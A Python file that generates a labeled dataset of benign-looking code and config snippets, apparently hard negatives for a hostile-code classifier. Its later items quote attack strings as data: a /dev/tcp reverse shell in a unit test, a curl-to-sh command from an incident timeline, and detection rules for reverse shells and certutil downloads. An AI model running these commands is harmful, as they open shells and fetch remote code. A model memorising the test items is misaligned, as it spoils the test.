# ruff: noqa: E501 - hand-written item texts and shape tables are kept on one line each
"""Benign code and config: ordinary shell, CI, Dockerfiles, Python, JS, Go, configs with
placeholder secrets, test fixtures, reviews quoting bad code beside the fix, teaching
snippets. About a third get a Chinese lead-in."""

from __future__ import annotations

from h3core import Gen

L = "benign"


def build() -> Gen:
    g = Gen("benign_code", "code")
    add = g.add

    add(
        L,
        "shell_script",
        "agent",
        False,
        "backup script local",
        "#!/usr/bin/env bash\nset -euo pipefail\nstamp=$(date +%F)\ntar czf \"/backups/app-$stamp.tar.gz\" /srv/app/data\nfind /backups -name 'app-*.tar.gz' -mtime +14 -delete",
    )
    add(
        L,
        "shell_script",
        "user",
        True,
        "rm -rf of build dir ZH",
        "清理构建产物：\nrm -rf ./build ./dist ./.pytest_cache",
    )
    add(
        L,
        "shell_script",
        "document",
        True,
        "curl to own API, no exec",
        'curl -s -H "Authorization: Bearer $API_TOKEN" https://api.corp.example.com/v1/health | jq .status',
    )
    add(
        L,
        "shell_script",
        "agent",
        True,
        "download, verify checksum, then run ZH",
        '安装步骤（先校验再执行）：\ncurl -fsSLo install.sh https://get.tools.example.com/install.sh\necho "$EXPECTED_SHA256  install.sh" | sha256sum -c -\nless install.sh   # 先读一遍\nbash install.sh',
    )
    add(
        L,
        "shell_script",
        "user",
        False,
        "git workflow",
        "git fetch origin\ngit rebase origin/main\ngit push --force-with-lease origin feature/search",
    )
    add(
        L,
        "shell_script",
        "tool",
        True,
        "nc used for port check",
        "nc -zv db.corp.example 5432 && echo 'db reachable'",
    )
    add(
        L,
        "shell_script",
        "document",
        True,
        "ssh port forward to own bastion ZH",
        "连测试库：\nssh -N -L 15432:db.internal:5432 me@bastion.corp.example.com",
    )
    add(
        L,
        "shell_script",
        "agent",
        False,
        "docker compose up",
        "docker compose pull && docker compose up -d --remove-orphans && docker compose ps",
    )
    add(
        L,
        "ci_config",
        "document",
        False,
        "GitHub Actions test",
        "name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with: { python-version: '3.12' }\n      - run: pip install -e '.[dev]'\n      - run: pytest -q",
    )
    add(
        L,
        "ci_config",
        "tool",
        True,
        "GitLab CI with secret from variable ZH",
        '部署 job：\ndeploy:\n  stage: deploy\n  script:\n    - echo "$KUBE_CONFIG" > kubeconfig\n    - kubectl --kubeconfig kubeconfig apply -f k8s/\n  only: [main]',
    )
    add(
        L,
        "ci_config",
        "document",
        True,
        "Jenkinsfile with credentials binding",
        "pipeline {\n  agent any\n  stages {\n    stage('Publish') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          sh 'npm publish'\n        }\n      }\n    }\n  }\n}",
    )
    add(
        L,
        "ci_config",
        "agent",
        True,
        "CI uploads artifact to own bucket ZH",
        "构建产物上传到我们自己的桶：\n- run: aws s3 cp dist/ s3://acme-build-artifacts/${{ github.sha }}/ --recursive",
    )
    add(
        L,
        "dockerfile",
        "document",
        False,
        "Dockerfile python app",
        'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nUSER 1000\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]',
    )
    add(
        L,
        "dockerfile",
        "user",
        True,
        "Dockerfile with checksum-verified download ZH",
        '镜像里装 kubectl（带校验）：\nFROM debian:12-slim\nARG KUBECTL_SHA256\nRUN curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.example.com/v1.31.0/kubectl \\\n && echo "$KUBECTL_SHA256  /usr/local/bin/kubectl" | sha256sum -c - \\\n && chmod +x /usr/local/bin/kubectl',
    )
    add(
        L,
        "dockerfile",
        "tool",
        False,
        "multi-stage Go build",
        'FROM golang:1.23 AS build\nWORKDIR /src\nCOPY . .\nRUN CGO_ENABLED=0 go build -o /out/api ./cmd/api\nFROM gcr.io/distroless/static\nCOPY --from=build /out/api /api\nENTRYPOINT ["/api"]',
    )
    add(
        L,
        "python",
        "agent",
        False,
        "plain python function",
        'def chunk(items, size):\n    """Split a list into lists of at most `size` items."""\n    return [items[i:i + size] for i in range(0, len(items), size)]',
    )
    add(
        L,
        "python",
        "user",
        True,
        "setup.py exec version file",
        'from setuptools import setup\n\nabout = {}\nexec(open("src/pkg/version.py").read(), about)\nsetup(name="pkg", version=about["__version__"], packages=["pkg"])',
    )
    add(
        L,
        "python",
        "document",
        True,
        "subprocess list form ZH",
        '调用 git 的安全写法：\nimport subprocess\nout = subprocess.run(["git", "log", "-1", "--format=%H"], capture_output=True, text=True, check=True).stdout',
    )
    add(
        L,
        "python",
        "agent",
        True,
        "yaml.safe_load",
        'import yaml\nwith open("config.yaml") as f:\n    cfg = yaml.safe_load(f)',
    )
    add(
        L,
        "python",
        "tool",
        True,
        "requests to own API with env token ZH",
        '查询自己服务的接口：\nimport os, requests\nresp = requests.get("https://api.corp.example.com/v1/orders", headers={"Authorization": f"Bearer {os.environ[\'API_TOKEN\']}"}, timeout=10)\nresp.raise_for_status()',
    )
    add(
        L,
        "python",
        "document",
        True,
        "teaching eval vs literal_eval",
        "# Lesson 5: never eval() untrusted strings.\nimport ast\nvalue = ast.literal_eval(\"[1, 2, 3]\")  # only literals, safe\n# eval(\"__import__('os').system('ls')\") would run a command — that's why we don't.",
    )
    add(
        L,
        "python",
        "agent",
        True,
        "exec of literal in teaching ZH",
        '讲解 exec 的作用域：\nns = {}\nexec("a = 1\\nb = a + 1", ns)\nprint(ns["b"])  # 2，字符串是写死的字面量，不是外部输入',
    )
    add(
        L,
        "python",
        "tool",
        True,
        "tarfile extract with filter",
        'import tarfile\nwith tarfile.open("release.tar.gz") as t:\n    t.extractall("build/", filter="data")',
    )
    add(
        L,
        "python",
        "document",
        True,
        "torch.load weights_only True ZH",
        '加载本地训练的权重：\nstate = torch.load("checkpoints/epoch10.pt", weights_only=True)\nmodel.load_state_dict(state)',
    )
    add(
        L,
        "python",
        "user",
        True,
        "shutil.rmtree of tmp dir",
        "import shutil, tempfile\ntmp = tempfile.mkdtemp()\ntry:\n    build(tmp)\nfinally:\n    shutil.rmtree(tmp)",
    )
    add(
        L,
        "python",
        "agent",
        True,
        "socket server for local health check",
        'import socket\nsrv = socket.socket()\nsrv.bind(("127.0.0.1", 8081))\nsrv.listen()\nwhile True:\n    c, _ = srv.accept()\n    c.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\nok")\n    c.close()',
    )
    add(
        L,
        "python",
        "tool",
        True,
        "pickle of own cache file ZH",
        '本地缓存（自己写、自己读）：\nimport pickle\nwith open(".cache/features.pkl", "wb") as f:\n    pickle.dump(features, f)',
    )
    add(
        L,
        "python",
        "document",
        False,
        "FastAPI endpoint",
        'from fastapi import FastAPI\napp = FastAPI()\n\n@app.get("/items/{item_id}")\ndef read_item(item_id: int, q: str | None = None):\n    return {"item_id": item_id, "q": q}',
    )
    add(
        L,
        "python",
        "agent",
        True,
        "jinja with file template and autoescape",
        'from jinja2 import Environment, FileSystemLoader, select_autoescape\nenv = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())\nhtml = env.get_template("invoice.html").render(order=order)',
    )
    add(
        L,
        "javascript",
        "document",
        True,
        "React component with onClick",
        "export function LikeButton({ onLike }) {\n  const [n, setN] = useState(0);\n  return <button onClick={() => { setN(n + 1); onLike(); }}>Like ({n})</button>;\n}",
    )
    add(
        L,
        "javascript",
        "agent",
        False,
        "fetch JSON from own API ZH",
        "前端获取订单列表：\nconst res = await fetch('/api/orders?page=1');\nconst { items } = await res.json();\nsetOrders(items);",
    )
    add(
        L,
        "javascript",
        "tool",
        True,
        "JSON.parse not eval",
        "// parse the config safely\nconst cfg = JSON.parse(await fs.promises.readFile('config.json', 'utf8'));",
    )
    add(
        L,
        "javascript",
        "document",
        False,
        "express route",
        "app.post('/login', rateLimit({ windowMs: 60000, max: 5 }), async (req, res) => {\n  const ok = await verify(req.body.user, req.body.password);\n  res.status(ok ? 200 : 401).end();\n});",
    )
    add(
        L,
        "javascript",
        "user",
        True,
        "child_process execFile with args ZH",
        "生成缩略图（不用 shell）：\nconst { execFile } = require('child_process');\nexecFile('convert', [src, '-resize', '200x200', dst], (err) => { if (err) console.error(err); });",
    )
    add(
        L,
        "package_json",
        "document",
        False,
        "package.json scripts",
        '{\n  "name": "web",\n  "private": true,\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc && vite build",\n    "test": "vitest run",\n    "lint": "eslint src"\n  }\n}',
    )
    add(
        L,
        "go",
        "agent",
        False,
        "Go http handler",
        'func health(w http.ResponseWriter, r *http.Request) {\n\tw.Header().Set("Content-Type", "application/json")\n\tjson.NewEncoder(w).Encode(map[string]string{"status": "ok"})\n}',
    )
    add(
        L,
        "go",
        "tool",
        True,
        "Go exec.Command with fixed args ZH",
        '调用 git 获取版本：\nout, err := exec.Command("git", "describe", "--tags").Output()\nif err != nil {\n\treturn "dev"\n}\nreturn strings.TrimSpace(string(out))',
    )
    add(
        L,
        "go",
        "document",
        True,
        "Go net.Dial to own service",
        'conn, err := net.DialTimeout("tcp", "redis.internal:6379", 2*time.Second)\nif err != nil {\n\tlog.Fatalf("redis unreachable: %v", err)\n}\ndefer conn.Close()',
    )
    add(
        L,
        "config_placeholder",
        "document",
        True,
        ".env.example with placeholders",
        "# copy to .env and fill in\nDATABASE_URL=postgres://user:password@localhost:5432/app\nSTRIPE_SECRET_KEY=sk_test_xxxxxxxxxxxxxxxxxxxxxxxx\nOPENAI_API_KEY=<your-key>",
    )
    add(
        L,
        "config_placeholder",
        "tool",
        True,
        "YAML with env references ZH",
        "配置文件（密钥从环境变量读）：\ndatabase:\n  host: db.internal\n  user: app\n  password: ${DB_PASSWORD}\nredis:\n  url: ${REDIS_URL}",
    )
    add(
        L,
        "config_placeholder",
        "document",
        True,
        "k8s secret with placeholder",
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: app-secrets\ntype: Opaque\nstringData:\n  API_KEY: REPLACE_ME\n  DB_PASSWORD: changeme-in-vault",
    )
    add(
        L,
        "config_placeholder",
        "agent",
        True,
        "docker-compose with secrets file",
        "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\n    secrets: [db_password]\nsecrets:\n  db_password:\n    file: ./secrets/db_password.txt",
    )
    add(
        L,
        "test_fixture_fake_key",
        "document",
        True,
        "AWS docs example key in test",
        "def test_parses_credentials():\n    # AWS documentation's example key pair, not a real credential\n    creds = parse('AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY')\n    assert creds.access_key.endswith('EXAMPLE')",
    )
    add(
        L,
        "test_fixture_fake_key",
        "agent",
        True,
        "ZH test fixture fake token",
        '单元测试用的假 token：\nFAKE_TOKEN = "test-token-not-real"\n\ndef test_auth_header():\n    assert build_header(FAKE_TOKEN) == {"Authorization": "Bearer test-token-not-real"}',
    )
    add(
        L,
        "test_fixture_fake_key",
        "tool",
        True,
        "test with dummy PEM marker",
        "def test_rejects_missing_key(tmp_path):\n    p = tmp_path / 'key.pem'\n    p.write_text('-----BEGIN PRIVATE KEY-----\\nnot-a-key\\n-----END PRIVATE KEY-----\\n')\n    with pytest.raises(ValueError):\n        load_key(p)",
    )
    add(
        L,
        "code_review_quote",
        "agent",
        True,
        "review quoting eval beside fix",
        "Review:\nBefore:\n    result = eval(request.args['expr'])\nAfter:\n    result = safe_calc(request.args['expr'])  # parses with ast, numbers and + - * / only\nThe old line let anyone run code on the server.",
    )
    add(
        L,
        "code_review_quote",
        "document",
        True,
        "ZH review quoting shell=True beside fix",
        '评审记录：\n修改前：subprocess.run(f"ping {host}", shell=True)\n修改后：subprocess.run(["ping", "-c", "1", host], check=True)\n原写法有命令注入风险，已改为列表参数。',
    )
    add(
        L,
        "code_review_quote",
        "tool",
        True,
        "diff removing curl | sh",
        "diff --git a/Dockerfile b/Dockerfile\n@@ -3,2 +3,3 @@\n-RUN curl -sL https://get.tools.example.com | sh\n+COPY vendor/tool-1.4.2.tar.gz /tmp/\n+RUN tar xzf /tmp/tool-1.4.2.tar.gz -C /usr/local/bin",
    )
    add(
        L,
        "code_review_quote",
        "agent",
        True,
        "ZH review about pickle",
        "评审意见：`pickle.loads(resp.content)` 会执行任意对象构造，下载的数据不能这样反序列化，请改成 `json.loads(resp.text)`。",
    )
    add(
        L,
        "code_review_quote",
        "document",
        True,
        "security checklist naming dangerous calls",
        "PR checklist:\n- [ ] no `eval(` / `exec(` on input\n- [ ] no `os.system` or `shell=True`\n- [ ] no `curl ... | bash` in Dockerfiles\n- [ ] secrets come from the vault, not the repo",
    )
    add(
        L,
        "code_review_quote",
        "tool",
        True,
        "ZH guideline warning against curl | bash",
        "团队规范：禁止在 CI 或 Dockerfile 里使用 `curl ... | bash` 这种直接执行远程脚本的写法，统一使用固定版本并校验哈希。",
    )
    add(
        L,
        "sql_migration",
        "document",
        False,
        "SQL migration",
        "ALTER TABLE orders ADD COLUMN refunded_at timestamptz;\nCREATE INDEX CONCURRENTLY idx_orders_refunded ON orders (refunded_at) WHERE refunded_at IS NOT NULL;",
    )
    add(
        L,
        "sql_migration",
        "agent",
        True,
        "SQL drop of temp table ZH",
        "清理临时表：\nDROP TABLE IF EXISTS tmp_import_20261120;",
    )
    add(
        L,
        "crontab",
        "tool",
        False,
        "crontab local jobs",
        "# m h dom mon dow command\n0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n*/5 * * * * /usr/local/bin/healthcheck --quiet",
    )
    add(
        L,
        "crontab",
        "agent",
        True,
        "ZH crontab cert renew",
        "证书自动续期：\n0 4 * * 1 certbot renew --quiet --deploy-hook 'systemctl reload nginx'",
    )
    add(
        L,
        "makefile",
        "document",
        False,
        "Makefile",
        ".PHONY: test lint\ntest:\n\tpytest -q\nlint:\n\truff check .\n\truff format --check .\nclean:\n\trm -rf build dist",
    )
    add(
        L,
        "systemd_unit",
        "tool",
        False,
        "systemd unit",
        "[Unit]\nDescription=API server\nAfter=network.target\n[Service]\nUser=api\nExecStart=/opt/api/bin/api --config /etc/api/config.yaml\nRestart=on-failure\n[Install]\nWantedBy=multi-user.target",
    )
    add(
        L,
        "nginx_config",
        "document",
        False,
        "nginx reverse proxy ZH",
        "反向代理配置：\nserver {\n  listen 443 ssl;\n  server_name app.corp.example.com;\n  location / { proxy_pass http://127.0.0.1:8000; }\n}",
    )
    add(
        L,
        "terraform",
        "tool",
        False,
        "terraform bucket",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-logs-prod"\n  tags   = { team = "platform" }\n}',
    )
    add(
        L,
        "helm_k8s_config",
        "document",
        False,
        "k8s deployment",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: web }\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: web\n          image: registry.corp.example/web:1.8.2\n          ports: [{ containerPort: 8080 }]",
    )
    add(
        L,
        "git_config",
        "user",
        True,
        "git aliases harmless",
        "[alias]\n\tlg = log --oneline --graph --decorate\n\tundo = reset --soft HEAD~1\n\tpushf = push --force-with-lease",
    )
    add(
        L,
        "git_config",
        "agent",
        True,
        "ZH git remote add own fork",
        "添加自己的 fork 作为远程：\ngit remote add fork git@git.corp.example.com:lin/app.git\ngit push fork feature/login",
    )
    add(
        L,
        "powershell_admin",
        "tool",
        True,
        "PowerShell service restart",
        "Get-Service -Name 'Spooler' | Restart-Service -Force\nGet-EventLog -LogName System -Newest 20 | Format-Table -AutoSize",
    )
    add(
        L,
        "powershell_admin",
        "user",
        True,
        "ZH PowerShell download from own server with hash",
        "从内部服务器下载安装包并校验：\nInvoke-WebRequest https://files.corp.example.com/agent.msi -OutFile agent.msi\n(Get-FileHash agent.msi -Algorithm SHA256).Hash -eq $env:AGENT_SHA256",
    )
    add(
        L,
        "network_tooling",
        "document",
        True,
        "tcpdump and dig for debugging",
        "sudo tcpdump -i eth0 port 53 -c 20\ndig +short api.corp.example.com\nping -c 3 10.0.0.1",
    )
    add(
        L,
        "network_tooling",
        "agent",
        True,
        "ZH nmap own subnet",
        "巡检自己机房的网段：\nnmap -sn 10.20.0.0/24",
    )
    add(
        L,
        "bashrc",
        "user",
        False,
        "bashrc aliases",
        "alias ll='ls -alF'\nalias gs='git status'\nexport PATH=\"$HOME/.local/bin:$PATH\"\neval \"$(starship init bash)\"",
    )
    add(
        L,
        "encoded_literal",
        "document",
        True,
        "base64 decode of a literal image",
        'import base64\npng = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")\nopen("pixel.png", "wb").write(png)',
    )
    add(
        L,
        "encoded_literal",
        "agent",
        True,
        "ZH base64 of hello",
        "编码示例：\necho -n 'hello' | base64   # aGVsbG8=\necho aGVsbG8= | base64 -d # hello",
    )
    add(
        L,
        "ruby",
        "tool",
        False,
        "Ruby script",
        "require 'csv'\ntotal = CSV.read('sales.csv', headers: true).sum { |r| r['amount'].to_f }\nputs format('%.2f', total)",
    )
    add(
        L,
        "php",
        "document",
        True,
        "PHP prepared statement",
        "<?php\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$_POST['email']]);\n$user = $stmt->fetch();",
    )
    add(
        L,
        "java",
        "agent",
        False,
        "Java ProcessBuilder with fixed args",
        'Process p = new ProcessBuilder("git", "rev-parse", "HEAD").redirectErrorStream(true).start();\nString sha = new String(p.getInputStream().readAllBytes()).trim();',
    )
    add(
        L,
        "ansible",
        "document",
        False,
        "Ansible task ZH",
        "安装并启动 nginx：\n- hosts: web\n  become: true\n  tasks:\n    - apt: { name: nginx, state: present }\n    - service: { name: nginx, state: started, enabled: true }",
    )
    add(
        L,
        "monitoring_script",
        "tool",
        True,
        "disk alert posts to own Slack webhook var",
        'usage=$(df --output=pcent / | tail -1 | tr -d \' %\')\nif [ "$usage" -gt 90 ]; then\n  curl -s -X POST -d "{\\"text\\": \\"disk at ${usage}%\\"}" "$SLACK_WEBHOOK_URL"\nfi',
    )
    add(
        L,
        "monitoring_script",
        "agent",
        True,
        "ZH python health check",
        '服务探活：\nimport requests\nfor url in ["https://api.corp.example.com/health", "https://web.corp.example.com/health"]:\n    print(url, requests.get(url, timeout=3).status_code)',
    )
    add(
        L,
        "own_api_call",
        "document",
        True,
        "rsync to own backup server",
        "rsync -az --delete /srv/app/uploads/ backup@backup.corp.example.com:/backups/uploads/",
    )
    add(
        L,
        "own_api_call",
        "tool",
        True,
        "ZH scp to own server",
        "把日志拷到自己的分析机：\nscp /var/log/nginx/access.log.1 me@10.0.3.12:/data/logs/",
    )
    add(
        L,
        "own_api_call",
        "agent",
        True,
        "git push to own origin",
        "git remote -v\n# origin git@git.corp.example.com:team/app.git\ngit push origin main --tags",
    )
    add(
        L,
        "vscode_tasks",
        "user",
        False,
        "VS Code tasks.json",
        '{\n  "version": "2.0.0",\n  "tasks": [{ "label": "test", "type": "shell", "command": "pytest -q", "group": "test" }]\n}',
    )
    add(
        L,
        "lua",
        "document",
        False,
        "Lua config ZH",
        "Neovim 配置片段：\nvim.opt.number = true\nvim.opt.expandtab = true\nvim.keymap.set('n', '<leader>w', ':w<CR>')",
    )
    add(
        L,
        "awk",
        "tool",
        False,
        "awk log summary",
        "awk '{ codes[$9]++ } END { for (c in codes) print c, codes[c] }' /var/log/nginx/access.log",
    )
    add(
        L,
        "teaching_eval_exec",
        "document",
        True,
        "JS eval explanation",
        '// Why not eval? eval("2 + 2") works, but eval(userInput) runs anything the user types.\n// Use Number() or a parser instead:\nconst n = Number(input);',
    )
    add(
        L,
        "teaching_eval_exec",
        "agent",
        True,
        "ZH teaching reverse shell detection",
        "安全课讲义：反弹 shell 的典型特征是把 socket 的文件描述符复制到 0/1/2（dup2），检测规则应关注这一点。本讲不提供可运行代码。",
    )
    add(
        L,
        "dockerfile",
        "document",
        True,
        "ZH Dockerfile apt only",
        "基础镜像：\nFROM ubuntu:24.04\nRUN apt-get update && apt-get install -y --no-install-recommends curl git && rm -rf /var/lib/apt/lists/*",
    )
    add(
        L,
        "python",
        "user",
        False,
        "ZH pandas analysis",
        '统计每个城市的订单数：\nimport pandas as pd\ndf = pd.read_csv("orders.csv")\nprint(df.groupby("city").size().sort_values(ascending=False).head(10))',
    )
    add(
        L,
        "python",
        "agent",
        True,
        "smtplib sending a report to own team",
        "import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage(); m['To'] = 'team@corp.example.com'; m['Subject'] = 'Daily report'\nm.set_content(render_report())\nwith smtplib.SMTP('smtp.corp.example.com', 587) as s:\n    s.starttls(); s.send_message(m)",
    )
    add(
        L,
        "go",
        "user",
        False,
        "ZH Go struct",
        '用户结构体：\ntype User struct {\n\tID    int64  `json:"id"`\n\tName  string `json:"name"`\n\tEmail string `json:"email"`\n}',
    )
    add(
        L,
        "javascript",
        "tool",
        True,
        "ZH React form onSubmit",
        '登录表单组件：\nfunction LoginForm({ onSubmit }) {\n  return <form onSubmit={e => { e.preventDefault(); onSubmit(new FormData(e.target)); }}><input name="user" /><button>登录</button></form>;\n}',
    )
    add(
        L,
        "shell_script",
        "tool",
        True,
        "kubectl logs and rollout",
        "kubectl -n prod rollout status deploy/web\nkubectl -n prod logs deploy/web --since=10m | grep -i error | tail -20",
    )
    add(
        L,
        "shell_script",
        "agent",
        True,
        "ZH find and delete old logs in own dir",
        "只删应用自己的旧日志：\nfind /var/log/myapp -name '*.log' -mtime +30 -delete",
    )
    add(
        L,
        "ci_config",
        "tool",
        True,
        "GitHub Actions uses secrets in env, not echoed",
        "- name: deploy\n  env:\n    FLY_API_TOKEN: ${{ secrets.FLY_API_TOKEN }}\n  run: flyctl deploy --remote-only",
    )

    # ---- added: hard look-alikes that quote attack code as data
    add(
        L,
        "detection_rule",
        "document",
        True,
        "Sigma rule naming certutil urlcache",
        "title: Certutil download\nlogsource: { category: process_creation, product: windows }\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|all: ['-urlcache', '-f', 'http']\n  condition: selection\nlevel: high",
    )
    add(
        L,
        "detection_rule",
        "agent",
        True,
        "ZH YARA-like rule for reverse shells",
        '检测规则草稿（只匹配，不执行）：\nrule bash_dev_tcp {\n  strings:\n    $a = "/dev/tcp/" ascii\n    $b = "bash -i" ascii\n  condition:\n    all of them\n}',
    )
    add(
        L,
        "incident_writeup",
        "document",
        True,
        "SOC write-up quoting attacker command",
        "Incident 2026-031 timeline:\n09:12 attacker ran `curl -s http://203.0.113.9/x | sh` on web-02 (blocked by egress policy)\n09:14 host isolated\n09:40 image rebuilt from the golden AMI\nLesson: keep egress deny-by-default.",
    )
    add(
        L,
        "incident_writeup",
        "document",
        True,
        "ZH post-mortem quoting deleted command",
        "事故复盘：值班同学误执行了 `rm -rf /data/*`（本意是 /data/tmp/*），导致服务中断 40 分钟。改进：危险命令加确认脚本，生产机禁用 root 登录。",
    )
    add(
        L,
        "test_fixture_fake_key",
        "tool",
        True,
        "unit test for the scanner with attack string as data",
        'def test_flags_reverse_shell():\n    sample = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"\n    assert classify(sample) == "reject"  # the string is only data for the test',
    )
    add(
        L,
        "teaching_eval_exec",
        "document",
        True,
        "ZH CTF write-up explaining pickle risk",
        "CTF 题解：题目用 `pickle.loads` 反序列化用户上传的数据，所以可以构造 __reduce__ 执行命令。修复方法是改用 JSON，并对上传内容签名校验。",
    )
    add(
        L,
        "shell_script",
        "user",
        True,
        "tar | ssh to own backup host",
        "tar czf - /srv/app/uploads | ssh backup@backup.corp.example.com 'cat > /backups/uploads-$(date +%F).tgz'",
    )
    add(
        L,
        "python",
        "tool",
        True,
        "ZH own telemetry with no secrets",
        '上报构建耗时到我们自己的监控：\nrequests.post("https://metrics.corp.example.com/v1/build", json={"job": job, "seconds": elapsed}, timeout=5)',
    )
    add(
        L,
        "config_placeholder",
        "document",
        True,
        "git credential helper, no token",
        '[credential]\n\thelper = osxkeychain\n[url "git@git.corp.example.com:"]\n\tinsteadOf = https://git.corp.example.com/',
    )
    add(
        L,
        "dockerfile",
        "agent",
        True,
        "ZH Dockerfile HEALTHCHECK curl localhost",
        "健康检查：\nHEALTHCHECK --interval=30s CMD curl -fs http://localhost:8080/health || exit 1",
    )
    return g
